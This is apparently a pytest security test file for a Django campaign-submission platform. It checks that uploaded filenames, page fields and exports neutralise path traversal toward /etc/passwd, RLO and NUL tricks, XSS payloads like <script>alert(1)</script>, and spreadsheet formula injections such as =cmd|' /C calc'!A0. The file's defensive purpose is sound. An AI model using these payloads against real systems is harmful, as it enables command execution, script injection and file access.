    assert CJK.search(reason)
    assert _cjk_name(case) in reason, (_cjk_name(case), found)
    assert row_counts() == counts
    assert listing(world) == files


# --- names that are legitimate, or made harmless on the way in ------------------------------------------------


@dataclass(frozen=True)
class Accepted:
    id: str
    via: str  # page, api (a work's file), page_essay, api_essay (an essay's .docx)
    name: str  # as sent
    kept: str  # the name the platform keeps and shows
    work: str = PICTURE
    make: Callable[[], bytes] = _valid_jpeg


ACCEPTED = [
    # emoji and rare CJK (Extension B) are ordinary characters of a name: kept intact
    Accepted("emoji-name-page", "page", "🎉青年文明号📸.jpg", "🎉青年文明号📸.jpg"),
    Accepted("emoji-name-api", "api", "👍窗口服务👩‍👩‍👧.jpg", "👍窗口服务👩‍👩‍👧.jpg"),
    Accepted("ext-b-name-page", "page", "𠀀𠀁𪚥窗口.jpg", "𠀀𠀁𪚥窗口.jpg"),
    Accepted("ext-b-name-api", "api", "𡈽𠮷野家.jpg", "𡈽𠮷野家.jpg"),
    Accepted("ext-b-emoji-video", "api", "宣传片𠀀🎬.mp4", "宣传片𠀀🎬.mp4", work=VIDEO, make=_small_mp4),
    Accepted("ext-b-emoji-docx", "page_essay", "征文𠀀🎉.docx", "征文𠀀🎉.docx", work=ESSAY, make=_essay_docx),
    # a hyperlink in an essay is an external relationship, and an ordinary one
    Accepted("docx-with-hyperlink", "api_essay", "征文.docx", "征文.docx", work=ESSAY, make=_docx_external_hyperlink),
    # right-to-left overrides (and other invisible formatting characters) are dropped from the name
    Accepted("rlo-in-name-page", "page", "照片\u202egpj.jpg", "照片gpj.jpg"),
    Accepted("rlo-in-name-api", "api", "\u202e照片.jpg", "照片.jpg"),
    Accepted("rlo-isolates-in-docx-name", "api_essay", "征\u2067文\u2069\u200f.docx", "征文.docx", work=ESSAY,
             make=_essay_docx),
    # NUL bytes in the name are dropped too
    Accepted("nul-in-name-page", "page", "照片\x00.php.jpg", "照片.php.jpg"),
    Accepted("nul-in-name-api", "api", "照片.jpg\x00.exe", "照片.jpg.exe"),
    # path traversal: only the name's last part is kept; the file is stored under a generated name
    Accepted("traversal-dotdot-slash", "page", "../../etc/passwd.jpg", "passwd.jpg"),
    Accepted("traversal-dotdot-backslash", "api", "..\\..\\x.jpg", "x.jpg"),
    Accepted("traversal-absolute", "page", "/tmp/x.jpg", "x.jpg"),
    Accepted("traversal-windows-absolute", "api", "C:\\Windows\\System32\\x.jpg", "x.jpg"),
    # markup in a name is text: shown escaped
    Accepted("markup-in-name", "page", "<img src=x onerror=alert(1)>.jpg", "<img src=x onerror=alert(1)>.jpg"),
    # a name longer than any file system takes is shortened by the intake, keeping its extension
    Accepted("overlong-name", "page", "长" * 300 + ".jpg", "长" * 251 + ".jpg"),
    Accepted("overlong-extension", "api", "照片." + "扩" * 200, "照片." + "扩" * 200),
]


def _files_outside(root, media_root) -> set:
    return {path for path in root.rglob("*") if path.is_file() and media_root not in path.parents}


def _escape_targets() -> dict[str, bool]:
    return {path: os.path.exists(path) for path in ("/tmp/x.jpg", "/etc/passwd.jpg", "/x.jpg")}


def _escaped(text: str) -> str:
    from django.utils.html import escape

    return escape(text)


@pytest.mark.parametrize("case", ACCEPTED, ids=[case.id for case in ACCEPTED])
def test_legitimate_or_neutralised_name_is_accepted_and_kept_as_shown(world, case, tmp_path):
    work = work_for(world, case.work)
    client = sign_in(world)
    counts = row_counts()
    media_root, temp_dir = world["media"]
    outside, escapes = _files_outside(tmp_path, media_root), _escape_targets()
    sent = Case(case.id, case.via, work=case.work, name=case.name, make=case.make)
    response = send(world, sent, work)
    assert response.status_code in (200, 201, 302), response.content[:600]
    after = row_counts()
    if case.work == ESSAY:
        work.refresh_from_db()
        assert work.char_count > 0
        assert after["works.WorkFile"] == counts["works.WorkFile"]
        from wenminghao.core.models import AuditEntry

        entry = AuditEntry.objects.filter(action="work.essay_docx").latest("pk")
        assert entry.after["name"] == case.kept
        assert files_under(media_root) == []  # the essay keeps its text, never the document
    else:
        item = WorkFile.objects.get(work=work)
        assert item.original_name == case.kept
        assert after["works.WorkFile"] == counts["works.WorkFile"] + 1
        stored = files_under(media_root)
        assert stored == [media_root / item.original.name]
        assert re.fullmatch(rf"works/{work.pk}/[0-9a-f]{{32}}\.(jpg|mp4)", item.original.name)
        page = client.get(reverse("works:detail", args=[work.pk])).content.decode()
        assert _escaped(case.kept) in page
        if "<" in case.kept:
            assert case.kept not in page  # never as markup
        api_name = world["api"].get(f"/works/{work.pk}", user=world["users"]["leader_a"]).json()["files"][0]["name"]
        assert api_name == case.kept
    assert files_under(temp_dir) == []
    assert _files_outside(tmp_path, media_root) == outside  # nothing written beside storage
    assert _escape_targets() == escapes  # nor where the name pointed


# --- text shown on a page: escaped, never markup -----------------------------------------------------------------

XSS = "<script>alert(1)</script>"
XSS_ATTRIBUTE = '"><img src=x onerror=alert(1)>'


@pytest.fixture
def typed_markup(world):
    """Every text field that a page shows, typed with markup through the real API and upload page: a collective
    (name, host, commitment, a member), an H5 work (title, description) submitted and returned with a comment, and a
    picture's caption."""
    api, users, unit = world["api"], world["users"], world["tree"]["area_a"]
    created = api.post("/collectives", {
        "name": f"{XSS}窗口", "host_org": f"{XSS_ATTRIBUTE}中心", "unit": unit.pk, "sector": "service",
        "org_type": "state_enterprise", "unit_form": "window", "contact_name": "张联系", "contact_phone": "13800000000",
        "public_commitment": f"承诺{XSS}",
        "members": [{"name": f"{XSS}李", "birth_date": "1990-01-31", "is_leader": True, "post": f"岗位{XSS}"}],
    }, user=users["unit_admin_a"])
    assert created.status_code == 201, created.content
    collective_id = created.json()["id"]
    leader = users["leader_a"]
    work = api.post("/works", {
        "collective": world["tree"]["collective_a"].pk, "campaign": world["campaign"].pk, "category": "publicity",
        "display_form": "h5", "title": f"标题{XSS}", "description": f"说明{XSS_ATTRIBUTE}",
        "url": "https://h5.example.org/", "contact_name": "王联系", "contact_phone": "13900000000",
    }, user=leader)
    assert work.status_code == 201, work.content
    work_id = work.json()["id"]
    assert api.post(f"/works/{work_id}/submit", user=leader).status_code == 200
    returned = api.post(f"/works/{work_id}/return", {"comment": f"请修改{XSS}"}, user=users["unit_admin_a"])
    assert returned.status_code == 200, returned.content
    photo = work_for(world, PICTURE)
    client = sign_in(world)
    body, content_type = multipart("照片.jpg", jpeg(), {"caption": f"说明{XSS}"})
    uploaded = client.post(reverse("works:upload", args=[photo.pk]), body, content_type=content_type,
                           headers={"Accept": "application/json"})
    assert uploaded.status_code == 201, uploaded.content
    return {"collective": collective_id, "work": work_id, "photo": photo.pk}


# (case, who looks, which page, the text typed)
SHOWN = [
    ("work-title-on-its-page", "leader_a", lambda ids: reverse("works:detail", args=[ids["work"]]), f"标题{XSS}"),
    ("work-title-in-the-list", "leader_a", lambda ids: reverse("works:list"), f"标题{XSS}"),
    ("work-title-in-the-unit-list", "unit_admin_a", lambda ids: reverse("works:list"), f"标题{XSS}"),
    ("work-description", "leader_a", lambda ids: reverse("works:detail", args=[ids["work"]]), f"说明{XSS_ATTRIBUTE}"),
    ("return-comment-on-the-work", "leader_a", lambda ids: reverse("works:detail", args=[ids["work"]]), f"请修改{XSS}"),
    ("return-comment-in-notifications", "leader_a", lambda ids: reverse("core:notifications"), f"标题{XSS}"),
    ("caption-on-the-work", "leader_a", lambda ids: reverse("works:detail", args=[ids["photo"]]), f"说明{XSS}"),
    ("collective-name-on-its-page", "unit_admin_a", lambda ids: reverse("collectives:detail", args=[ids["collective"]]),
     f"{XSS}窗口"),
    ("collective-name-in-the-list", "unit_admin_a", lambda ids: reverse("collectives:list"), f"{XSS}窗口"),
    ("collective-host-org", "unit_admin_a", lambda ids: reverse("collectives:detail", args=[ids["collective"]]),
     f"{XSS_ATTRIBUTE}中心"),
    ("collective-commitment", "unit_admin_a", lambda ids: reverse("collectives:detail", args=[ids["collective"]]),
     f"承诺{XSS}"),
    ("member-name", "unit_admin_a", lambda ids: reverse("collectives:detail", args=[ids["collective"]]), f"{XSS}李"),
    ("member-post", "unit_admin_a", lambda ids: reverse("collectives:detail", args=[ids["collective"]]), f"岗位{XSS}"),
]


@pytest.mark.parametrize(("who", "page", "typed"), [case[1:] for case in SHOWN], ids=[case[0] for case in SHOWN])
def test_markup_typed_in_a_field_is_shown_escaped(world, typed_markup, who, page, typed):
    response = sign_in(world, who).get(page(typed_markup))
    assert response.status_code == 200
    html = response.content.decode()
    assert typed not in html  # never as markup
    assert "<script>alert(1)" not in html and "<img src=x" not in html
    assert _escaped(typed) in html


# --- text in an exported spreadsheet: text, never a formula -------------------------------------------------------

FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _typed_formulas(world, export: str) -> bytes:
    """The export made from text typed like formulas through the real API: collectives named like formulas (the
    collectives' export), or recommended works titled like formulas, their contact too (the unit's archive: the
    Attachment 2 table and the manifest CSV)."""
    api, users, unit = world["api"], world["users"], world["tree"]["area_a"]
    client = sign_in(world, "unit_admin_a")
    if export == "collective-list.xlsx":
        for text in FORMULAS.values():
            created = api.post("/collectives", {
                "name": text, "host_org": text, "unit": unit.pk, "sector": "service", "org_type": "state_enterprise",
                "unit_form": "window", "contact_name": text, "contact_phone": "13800000000", "public_commitment": text,
            }, user=users["unit_admin_a"])
            assert created.status_code == 201, created.content
        response = client.get(reverse("collectives:export"))
        assert response.status_code == 200
        return b"".join(response.streaming_content) if response.streaming else response.content
    for text in FORMULAS.values():
        work = api.post("/works", {
            "collective": world["tree"]["collective_a"].pk, "campaign": world["campaign"].pk, "category": "publicity",
            "display_form": "h5", "title": text, "description": text, "url": "https://h5.example.org/",
            "contact_name": text, "contact_phone": "13900000000",
        }, user=users["leader_a"])
        assert work.status_code == 201, work.content
        assert api.post(f"/works/{work.json()['id']}/submit", user=users["leader_a"]).status_code == 200
        assert api.post(f"/works/{work.json()['id']}/recommend", user=users["unit_admin_a"]).status_code == 200
    archive = client.get(reverse("reviews:unit_archive", args=[world["campaign"].pk]))
    assert archive.status_code == 200
    zipped = zipfile.ZipFile(io.BytesIO(b"".join(archive.streaming_content)))
    suffix = ".csv" if export.endswith(".csv") else ".xlsx"
    return zipped.read(next(name for name in zipped.namelist() if name.endswith(suffix)))


EXPORTS = [(export, lead) for export in ("collective-list.xlsx", "unit-archive-summary.xlsx",
                                          "unit-archive-manifest.csv") for lead in FORMULAS]


@pytest.mark.parametrize(("export", "lead"), EXPORTS, ids=[f"{export}-{lead}" for export, lead in EXPORTS])
def test_formula_typed_in_a_field_is_exported_as_text(world, export, lead):
    text = FORMULAS[lead]
    data = _typed_formulas(world, export)
    if export.endswith(".csv"):
        fields = [field for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for field in row]
        assert f"'{text}" in fields  # written with the apostrophe that keeps it text
        assert text not in fields
        return
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = "".join(archive.read(name).decode() for name in archive.namelist()
                         if name.startswith("xl/worksheets/sheet"))
    assert "<f>" not in sheets and "<f " not in sheets  # not one formula in any sheet
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert cells, f"{text} should be in {export} as typed"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix
